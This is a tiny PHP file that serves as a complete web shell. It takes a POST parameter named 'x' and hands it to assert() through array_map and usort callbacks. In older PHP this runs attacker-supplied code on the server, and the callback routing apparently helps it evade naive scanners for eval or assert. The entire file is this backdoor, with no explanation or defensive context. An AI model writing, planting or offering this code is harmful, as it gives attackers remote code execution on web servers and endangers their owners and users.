<?php
$arr = array($_POST['x']);
array_map('assert', $arr);
usort($arr, 'assert');
